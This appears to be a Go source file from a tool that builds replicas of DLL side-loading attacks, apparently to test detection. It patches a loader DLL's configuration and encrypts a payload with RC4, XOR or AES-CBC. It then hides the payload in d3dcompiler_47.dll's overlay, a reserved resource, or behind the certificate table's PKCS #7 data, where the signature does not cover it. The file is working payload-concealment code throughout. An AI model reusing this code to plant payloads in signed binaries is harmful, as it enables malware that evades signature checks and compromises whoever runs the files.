package replicas

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rc4"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"unicode/utf16"

	"sidetrace/loaders/pe"
	"sidetrace/replicas/internal/pefile"
)

// configuration is struct configuration of src/unpack/unpack.c.
type configuration struct {
	Magic      [16]byte
	Cipher     uint32
	KeySize    uint32
	Key        [maxKey]byte
	MarkerSize uint32
	Marker     [maxMarker]byte
	IV         [16]byte
	Event      [maxName + 1]uint16
	Container  [maxName + 1]uint16
}

const configurationMagic = "SIDETRACE-UNPACK"

// ffmpeg returns ffmpeg.dll with the parameters of its unpack step filled in.
func ffmpeg(p Params) ([]byte, error) {
	if p.Clean {
		return prebuilt.ReadFile("prebuilt/ffmpeg.clean.dll")
	}
	data, err := prebuilt.ReadFile("prebuilt/ffmpeg.dll")
	if err != nil {
		return nil, err
	}
	at := bytes.Index(data, []byte(configurationMagic))
	if at < 0 {
		return nil, fmt.Errorf("replicas: prebuilt ffmpeg.dll has no configuration block")
	}
	c := configuration{
		Magic:      [16]byte([]byte(configurationMagic)),
		Cipher:     map[Cipher]uint32{RC4: 1, XOR: 2, AESCBC: 3}[p.Cipher],
		KeySize:    uint32(len(p.Key)),
		MarkerSize: uint32(len(p.Marker)),
	}
	copy(c.Key[:], p.Key)
	copy(c.Marker[:], p.Marker)
	if p.Cipher == AESCBC {
		c.IV = initialVector(p.Key)
	}
	copy(c.Event[:maxName], utf16.Encode([]rune(p.Event)))
	copy(c.Container[:maxName], utf16.Encode([]rune(containerName)))
	if _, err := binary.Encode(data[at:], binary.LittleEndian, c); err != nil {
		return nil, err
	}
	f, err := pefile.Open(data)
	if err != nil {
		return nil, err
	}
	f.SetChecksum()
	return data, nil
}

// initialVector is fixed by the key, so that a set is a function of its
// parameters alone.
func initialVector(key []byte) [16]byte {
	sum := sha256.Sum256(key)
	return [16]byte(sum[:16])
}

// encrypt returns the ciphertext of the payload.
func encrypt(p Params, plain []byte) ([]byte, error) {
	out := make([]byte, len(plain))
	switch p.Cipher {
	case RC4:
		c, err := rc4.NewCipher(p.Key)
		if err != nil {
			return nil, err
		}
		c.XORKeyStream(out, plain)
		return out, nil
	case XOR:
		for i := range plain {
			out[i] = plain[i] ^ p.Key[i%len(p.Key)]
		}
		return out, nil
	default: // AESCBC; validate lets no other through
		block, err := aes.NewCipher(p.Key)
		if err != nil {
			return nil, err
		}
		iv := initialVector(p.Key)
		n := aes.BlockSize - len(plain)%aes.BlockSize
		out = append(bytes.Clone(plain), bytes.Repeat([]byte{byte(n)}, n)...)
		cipher.NewCBCEncrypter(block, iv[:]).CryptBlocks(out, out)
		return out, nil
	}
}

// container returns d3dcompiler_47.dll with the payload in its place, or as it
// is for a nil payload.
func container(p Params, payload []byte) ([]byte, error) {
	name := "prebuilt/d3dcompiler_47.unsigned.dll"
	if p.Place == Certificate {
		name = "prebuilt/d3dcompiler_47.dll"
	}
	host, err := prebuilt.ReadFile(name)
	if err != nil || payload == nil {
		return host, err
	}
	secret, err := encrypt(p, payload)
	if err != nil {
		return nil, err
	}
	blob := binary.LittleEndian.AppendUint32(bytes.Clone(p.Marker), uint32(len(secret)))
	blob = append(blob, secret...)
	switch p.Place {
	case Certificate:
		host, err = inCertificate(host, blob)
	case Overlay:
		host = append(host, blob...)
	case Resource:
		host, err = inResource(host, blob)
	}
	if err != nil {
		return nil, err
	}
	if n := bytes.Index(host, p.Marker); !bytes.HasPrefix(host[n:], blob) {
		return nil, &ParamError{Key: "marker", Value: fmt.Sprintf("%x", p.Marker),
			Reason: fmt.Sprintf("stands in the container already, at offset %#x", n), Hint: "a longer one is rarer"}
	}
	return host, nil
}

// inCertificate grows the one WIN_CERTIFICATE of our own signed file. What lies
// behind its PKCS #7 structure is not covered by the signature, nor are the
// directory entry and the checksum, which stays as the signing tool left it.
func inCertificate(host, blob []byte) ([]byte, error) {
	f, err := pefile.Open(host)
	if err != nil {
		return nil, err
	}
	at, size := f.Directory(pefile.CertificateDirectory)
	if at == 0 || uint64(at)+uint64(size) != uint64(len(host)) {
		return nil, fmt.Errorf("replicas: prebuilt %s: the certificate table is not its end", containerName)
	}
	host = pad(append(host, blob...), 8)
	f.Data = host
	size = uint32(len(host)) - at
	f.SetDirectorySize(pefile.CertificateDirectory, size)
	binary.LittleEndian.PutUint32(host[at:], size) // dwLength
	return host, nil
}

// reservedName is the RCDATA resource set aside by src/d3dcompiler/reserved.rc.
const reservedName = "47"

func inResource(host, blob []byte) ([]byte, error) {
	image, err := pe.Parse(host)
	if err != nil {
		return nil, err
	}
	for _, r := range image.Resources {
		if r.Type != "10" || r.Name != reservedName {
			continue
		}
		if len(blob) > int(r.File.Size) {
			return nil, fmt.Errorf("replicas: a payload of %d bytes, room for %d", len(blob), r.File.Size)
		}
		copy(host[r.File.Offset:], blob)
		f, err := pefile.Open(host)
		if err != nil {
			return nil, err
		}
		f.SetChecksum()
		return host, nil
	}
	return nil, fmt.Errorf("replicas: prebuilt %s: no room set aside", containerName)
}
